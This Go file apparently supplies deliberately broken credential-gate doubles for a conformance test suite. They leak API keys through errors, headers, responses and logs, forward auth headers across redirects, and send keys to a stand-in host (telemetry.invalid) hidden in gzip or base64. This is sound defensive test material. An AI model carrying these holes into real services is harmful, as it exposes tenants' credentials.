package gates

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"

	"github.com/molecule-ai/byok-conformance/gate"
	"github.com/molecule-ai/byok-conformance/gate/server"
	"github.com/molecule-ai/byok-conformance/registry"
)

// secrecyFaults let a credential out.
var secrecyFaults = []Double{
	{
		Name: "secret-in-error", Rules: []string{"SEC-1"},
		Story: "The error wraps the request, and the request holds the key.",
		Gate:  told(func(value string) string { return value }),
	},
	{
		Name: "secret-truncated", Rules: []string{"SEC-1"},
		Story: "The key is shortened for display, to twenty characters from its middle.",
		Gate: told(func(value string) string {
			middle := len(value) / 2
			return value[max(0, middle-10):min(len(value), middle+10)]
		}),
	},
	{
		Name: "first-eight-shown", Rules: []string{"SEC-1"},
		Story: "Enough of the key is shown for the tenant to know which one it is.",
		Gate:  told(func(value string) string { return value[:max(0, len(value)-28)] + "…" }),
	},
	{
		Name: "foreign-secret-in-error", Rules: []string{"SEC-1"},
		Story: "The refusal for absence says what was found in its place, value and all.",
		Gate: decided(func(reg *registry.Registry, req gate.Request, d gate.Decision) gate.Decision {
			if d.Code == gate.MissingCredential {
				for _, c := range strays(reg, reg.Provider(d.Provider), req.Secrets) {
					d.Message += "; found " + c.Name + "=" + c.Secret.Value
				}
			}
			return d
		}),
	},
	{
		Name: "secret-in-header", Rules: []string{"SEC-1"},
		Story: "A debugging header shows what was looked at.",
		Server: func(c *server.Config) {
			c.Hooks.WriteRefusal = func(w http.ResponseWriter, r *http.Request, req server.CreateRequest, d gate.Decision) {
				for name, s := range req.Secrets {
					w.Header().Add("X-Debug-Secret", name+"="+printable(s.Value))
				}
				server.WriteRefusal(w, r, req, d)
			}
		},
	},
	{
		Name: "secrets-in-created", Rules: []string{"SEC-1"},
		Story: "The 201 gives the request back, with its secrets.",
		Server: func(c *server.Config) {
			c.Hooks.WriteCreated = func(w http.ResponseWriter, _ *http.Request, req server.CreateRequest, made server.Created, _ gate.Decision) {
				secrets := map[string]string{}
				for name, s := range req.Secrets {
					secrets[name] = s.Value
				}
				writeObject(w, http.StatusCreated, map[string]any{"id": made.ID, "status": made.Status, "secrets": secrets})
			}
		},
	},
	{
		Name: "secrets-in-list", Rules: []string{"SEC-1"},
		Story: "GET /workspaces/:id shows the row, and the row holds the secrets.",
		Wrap:  showsSecrets,
	},
	{
		Name: "request-logged", Rules: []string{"SEC-2"},
		Story: "Requests are logged at debug level, and debug is on.",
		Server: func(c *server.Config) {
			if c.Log == nil {
				return
			}
			log := &locked{to: c.Log}
			c.Log = log
			c.Hooks.GateRequest = func(_ string, req gate.Request) gate.Request {
				for name, s := range req.Secrets.Workspace {
					_, _ = log.Write([]byte("level=debug secret=" + name + " value=" + printable(s.Value) + "\n")) // a log that fails has nobody to tell
				}
				return req
			}
		},
	},
	{
		Name: "upstream-body-in-notice", Rules: []string{"SEC-1", "SEC-2", "SEC-5"},
		Story: "The loud line quotes the provider's error.",
		Gate:  quotesProvider,
	},
	{
		Name: "vendor-sprayed", Rules: []string{"SEC-3"},
		Story: "A key that one host of the vendor refuses is tried at the vendor's other hosts.",
		Gate:  spraysVendor,
	},
	{
		Name: "telemetry-gzipped", Rules: []string{"SEC-3"},
		Story: "Probes are reported to a dashboard, headers and all, in gzip.",
		Gate:  reports("gzip", gzipOf),
	},
	{
		Name: "telemetry-deflated", Rules: []string{"SEC-3"},
		Story: "Probes are reported to a dashboard, headers and all, in deflate.",
		Gate: reports("deflate", func(text []byte) []byte {
			var b bytes.Buffer
			z, _ := flate.NewWriter(&b, flate.DefaultCompression) // the level is one
			_, _ = z.Write(text)                                  // a buffer takes everything
			_ = z.Close()
			return b.Bytes()
		}),
	},
	{
		Name: "telemetry-in-base64", Rules: []string{"SEC-3"},
		Story: "Probes are reported to a dashboard, headers and all, in base64.",
		Gate: reports("", func(text []byte) []byte {
			return []byte(`{"event":"` + base64.StdEncoding.EncodeToString(text) + `"}`)
		}),
	},
	{
		Name: "permanent-redirect-followed", Rules: []string{"SEC-4"},
		Story: "308 keeps the method, so it is safe, it is thought.",
		Gate: sent(func(next http.RoundTripper, r *http.Request) (*http.Response, error) {
			resp, err := next.RoundTrip(r)
			if err != nil || resp.StatusCode != http.StatusPermanentRedirect {
				return resp, err
			}
			return followed(next, r, resp)
		}),
	},
	{
		Name: "control-character-as-outage", Rules: []string{"SEC-6"},
		Story: "The HTTP client does not take the value, an error of the client is an outage, and outages pass in silence.",
		Gate: probed(func(_ gate.Options, next prober) prober {
			return func(ctx context.Context, p *registry.Provider, c gate.Credential) gate.Outcome {
				if strings.ContainsAny(c.Secret.Value, "\r\n\x00") {
					return gate.Outcome{Finding: gate.Alive}
				}
				return next(ctx, p, c)
			}
		}),
	},
	{
		Name: "white-space-as-control-character", Rules: []string{"LIV-3"},
		Story: "Whatever is below the first letter is taken for a control character, and the value is refused without asking.",
		Gate: probed(func(_ gate.Options, next prober) prober {
			return func(ctx context.Context, p *registry.Provider, c gate.Credential) gate.Outcome {
				if strings.ContainsAny(c.Secret.Value, " \t") {
					return gate.Outcome{Finding: gate.Dead, Cause: "its value holds a control character"}
				}
				return next(ctx, p, c)
			}
		}),
	},
	{
		Name: "control-characters-stripped", Rules: []string{"SEC-6"},
		Story: "Line breaks are taken out of the value, and what is left is sent.",
		Gate: probed(func(_ gate.Options, next prober) prober {
			return func(ctx context.Context, p *registry.Provider, c gate.Credential) gate.Outcome {
				c.Secret.Value = printable(c.Secret.Value)
				return next(ctx, p, c)
			}
		}),
	},
	{
		Name: "only-line-feeds-stripped", Rules: []string{"SEC-6"},
		Story: "Line feeds are taken out of the value, since they are what people paste.",
		Gate: probed(func(_ gate.Options, next prober) prober {
			return func(ctx context.Context, p *registry.Provider, c gate.Credential) gate.Outcome {
				c.Secret.Value = strings.ReplaceAll(c.Secret.Value, "\n", "")
				return next(ctx, p, c)
			}
		}),
	},
	{
		Name: "newline-as-outage", Rules: []string{"SEC-6"},
		Story: "The value is sent as it was pasted, the HTTP client does not take its newline, and an error of the client is an outage.",
		Gate: found(func(_ *registry.Registry, p *registry.Provider, s gate.Secrets) (gate.Credential, bool) {
			c, ok := gate.FindCredential(p, s)
			stored := map[gate.Scope]map[string]gate.Secret{gate.WorkspaceScope: s.Workspace, gate.GlobalScope: s.Global}
			if raw := stored[c.Scope][c.Name].Value; strings.HasSuffix(raw, "\n") {
				c.Secret = gate.Secret{Unreadable: true}
			}
			return c, ok
		}),
	},
	{
		Name: "secret-in-log", Rules: []string{"SEC-2", "SEC-1"},
		Story: "The loud line holds the credential, value and all.",
		Gate: probed(func(_ gate.Options, next prober) prober {
			return func(ctx context.Context, p *registry.Provider, c gate.Credential) gate.Outcome {
				out := next(ctx, p, c)
				out.Cause += " (" + c.Name + "=" + c.Secret.Value + ")"
				return out
			}
		}),
	},
	{
		Name: "probes-every-provider", Rules: []string{"SEC-3"},
		Story: "The key is tried at every provider that accepts its name.",
		Gate:  probesEverybody,
	},
	{
		Name: "redirect-followed", Rules: []string{"SEC-4"},
		Story: "Go's client follows redirects and keeps x-api-key; so does this one, with Authorization, too.",
		Gate:  sent(followingRedirects),
	},
	{
		Name: "subdomain-redirect-followed", Rules: []string{"SEC-4"},
		Story: "Redirects within the vendor's own domain are followed with every header, as Go's client does.",
		Gate: sent(func(next http.RoundTripper, r *http.Request) (*http.Response, error) {
			resp, err := next.RoundTrip(r)
			if err != nil {
				return resp, err
			}
			if where, bad := resp.Location(); bad == nil && strings.HasSuffix(where.Hostname(), "."+r.URL.Hostname()) {
				return followed(next, r, resp)
			}
			return resp, err
		}),
	},
	{
		Name: "telemetry-packed", Rules: []string{"SEC-3"},
		Story: "Events go to a dashboard in batches: gzip in base64, in a field of a JSON object.",
		Gate: reports("identity", func(text []byte) []byte {
			return fmt.Appendf(nil, `{"batch":%q}`, base64.StdEncoding.EncodeToString(gzipOf(text)))
		}),
	},
	{
		Name: "batch-in-log", Rules: []string{"SEC-2"},
		Story: "What goes to the dashboard is logged as well, in gzip and base64, since nobody can read that.",
		Server: func(c *server.Config) {
			log := c.Log
			if log == nil {
				return
			}
			c.Hooks.GateRequest = func(_ string, req gate.Request) gate.Request {
				for name, s := range req.Secrets.Workspace {
					line := fmt.Sprintf("level=debug batch=%s\n", base64.StdEncoding.EncodeToString(gzipOf([]byte(name+"="+s.Value))))
					_, _ = io.WriteString(log, line) // a log that fails has nobody to tell
				}
				return req
			}
		},
	},
	{
		Name: "upstream-body-passed-on", Rules: []string{"SEC-5", "SEC-1"},
		Story: "The provider's error message is shown to the tenant, because it explains so much.",
		Gate:  passesOn,
	},
}

// told puts what show makes of the value into the message of a refusal.
func told(show func(string) string) builder {
	return decided(func(reg *registry.Registry, req gate.Request, d gate.Decision) gate.Decision {
		if p := reg.Provider(d.Provider); d.Code == gate.InvalidCredential && p != nil {
			if c, ok := gate.FindCredential(p, req.Secrets); ok {
				d.Message += ": " + show(c.Secret.Value)
			}
		}
		return d
	})
}

// probesEverybody asks every provider that accepts the credential's name.
func probesEverybody(reg *registry.Registry, o gate.Options) gate.Gate {
	ref := gate.NewReference(reg, o)
	probe := ref.Probe
	ref.Probe = func(ctx context.Context, p *registry.Provider, c gate.Credential) gate.Outcome {
		out := probe(ctx, p, c)
		for _, other := range reg.Providers {
			if other != p && other.Accepts(c.Name) && other.ProbeBase() != "" {
				probe(ctx, other, c)
			}
		}
		return out
	}
	return ref
}

func gzipOf(text []byte) []byte {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	_, _ = z.Write(text) // a buffer takes everything
	_ = z.Close()
	return b.Bytes()
}

// reports tells a dashboard of each probe, with its headers.
func reports(encoding string, encoded func(text []byte) []byte) builder {
	return sent(func(next http.RoundTripper, r *http.Request) (*http.Response, error) {
		text := fmt.Appendf(nil, `{"event":"probe","url":%q,"key":%q}`, r.URL, keyOf(r))
		report, err := http.NewRequestWithContext(r.Context(), http.MethodPost, "https://telemetry.invalid/v1/batch", bytes.NewReader(encoded(text)))
		if err != nil {
			return nil, err
		}
		report.Header.Set("Content-Encoding", encoding)
		if resp, err := next.RoundTrip(report); err == nil {
			_ = resp.Body.Close() // nobody waits for what the dashboard says
		}
		return next.RoundTrip(r)
	})
}

func followingRedirects(next http.RoundTripper, r *http.Request) (*http.Response, error) {
	resp, err := next.RoundTrip(r)
	if err != nil {
		return nil, err
	}
	return followed(next, r, resp)
}

// followed goes where a response leads, with all of the request's headers.
func followed(next http.RoundTripper, r *http.Request, resp *http.Response) (*http.Response, error) {
	var err error
	for range 10 {
		if err != nil || resp.StatusCode < 300 || resp.StatusCode > 399 {
			return resp, err
		}
		where, bad := resp.Location()
		if bad != nil {
			return resp, err
		}
		_ = resp.Body.Close()
		again := r.Clone(r.Context())
		again.URL, again.Host = where, where.Host
		resp, err = next.RoundTrip(again)
	}
	return resp, err
}

// passesOn shows the provider's own words in the refusal.
func passesOn(reg *registry.Registry, o gate.Options) gate.Gate {
	type words struct{ text string }
	type wordsKey struct{}
	ref := sent(func(next http.RoundTripper, r *http.Request) (*http.Response, error) {
		resp, err := next.RoundTrip(r)
		if w, ok := r.Context().Value(wordsKey{}).(*words); ok && err == nil && resp.StatusCode >= 400 {
			body, bad := io.ReadAll(io.LimitReader(resp.Body, 4<<10))
			if bad == nil {
				w.text = string(body)
			}
			_ = resp.Body.Close()
			resp.Body = io.NopCloser(bytes.NewReader(body))
		}
		return resp, err
	})(reg, o)
	return decider(func(ctx context.Context, req gate.Request) (gate.Decision, error) {
		w := &words{}
		d, err := ref.Decide(context.WithValue(ctx, wordsKey{}, w), req)
		if d.Verdict == gate.Refused && w.text != "" {
			d.Message += ": the provider said " + w.text
		}
		return d, err
	})
}

// quotesProvider puts the provider's own words into the notice of an allow.
func quotesProvider(reg *registry.Registry, o gate.Options) gate.Gate {
	var words sync.Map
	ref := sent(func(next http.RoundTripper, r *http.Request) (*http.Response, error) {
		resp, err := next.RoundTrip(r)
		if err == nil && resp.StatusCode >= 500 {
			words.Store(keyOf(r), string(peek(resp)))
		}
		return resp, err
	})(reg, o)
	return decider(func(ctx context.Context, req gate.Request) (gate.Decision, error) {
		d, err := ref.Decide(ctx, req)
		if p := reg.Provider(d.Provider); p != nil && len(d.Notices) > 0 {
			if c, ok := gate.FindCredential(p, req.Secrets); ok {
				if said, ok := words.Load(c.Secret.Value); ok {
					d.Notices[0].Cause += ": " + said.(string)
				}
			}
		}
		return d, err
	})
}

// spraysVendor tries a dead key at the vendor's other hosts.
func spraysVendor(reg *registry.Registry, o gate.Options) gate.Gate {
	return probed(func(_ gate.Options, next prober) prober {
		return func(ctx context.Context, p *registry.Provider, c gate.Credential) gate.Outcome {
			out := next(ctx, p, c)
			for _, other := range reg.Providers {
				if out.Finding == gate.Dead && other.VendorLogo == p.VendorLogo && other.ProbeBase() != "" && other.ProbeBase() != p.ProbeBase() {
					out = next(ctx, other, c)
				}
			}
			return out
		}
	})(reg, o)
}

// showsSecrets keeps what a create was sent and shows it with the workspace.
func showsSecrets(next http.Handler) http.Handler {
	var secrets sync.Map
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if isCreate(r) {
			sent, reply := secretsOf(r), &recording{header: http.Header{}}
			next.ServeHTTP(reply, r)
			var made struct{ ID string }
			if json.Unmarshal(reply.body.Bytes(), &made) == nil {
				secrets.Store(made.ID, sent)
			}
			reply.send(w)
			return
		}
		replied(func(w http.ResponseWriter, r *http.Request, reply *recording) {
			var row map[string]any
			if shown, ok := secrets.Load(strings.TrimPrefix(r.URL.Path, "/workspaces/")); ok && r.Method == http.MethodGet && json.Unmarshal(reply.body.Bytes(), &row) == nil {
				row["secrets"] = shown
				writeObject(w, reply.status, row)
				return
			}
			reply.send(w)
		})(next).ServeHTTP(w, r)
	})
}

// printable drops control characters.
func printable(s string) string {
	return strings.Map(func(r rune) rune {
		if r < ' ' {
			return -1
		}
		return r
	}, s)
}
